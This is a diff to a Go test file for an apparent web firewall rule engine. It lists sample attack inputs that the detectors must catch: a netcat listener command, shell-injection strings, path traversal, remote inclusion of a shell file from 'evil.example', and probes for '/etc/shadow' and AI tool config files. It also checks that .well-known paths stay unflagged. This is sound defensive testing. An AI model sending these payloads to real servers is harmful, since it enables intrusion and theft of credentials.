@@ -119,7 +119,14 @@ func TestGrammarConstructs(t *testing.T) {
 			`<a href = " javascript:x">`},
 		ClassRCE: {"x=nc&&$a -nlvp 555", "1;.shell id", "1; . 'system' ls", "!!", "x !-2", "a\r\nHELP me", "a\r\nt1 uid fetch 1:* body", "a&bcdboot/r f",
 			"alias -p ll=ls", "if/i a==b foo", `if "a b" == "a b" echo`, "echo | gcc7.4", "uname$u -a", "kill '-'9"},
-		ClassLFI: {"0x2e0x2e/etc", "%2e%2e%5cwin", "x >/tmp/out", "/get/https://evil.example/", "page=index&u=https://evil.example/shell.txt"},
+		ClassLFI: {"0x2e0x2e/etc", "%2e%2e%5cwin", "x >/tmp/out", "/get/https://evil.example/", "page=index&u=https://evil.example/shell.txt", "/.aider.conf.yml", "/.gemini/settings.json", "x=etc/shadow"},
+	}
+	lfi := compileFor(t, ClassLFI, rules.PlanBusiness, Fields{})
+	for _, path := range []string{"/.well-known/security.txt", "/.well-known/acme-challenge/x1"} {
+		rq, _ := wafreplay.PrepareFor(wafreplay.Request{Path: path}, rules.PlanBusiness)
+		if lfi.Eval(rq, nil) {
+			t.Errorf("lfi matches %s", path)
+		}
 	}
 	for class, vs := range cases {
 		p := compileFor(t, class, rules.PlanBusiness, Fields{})
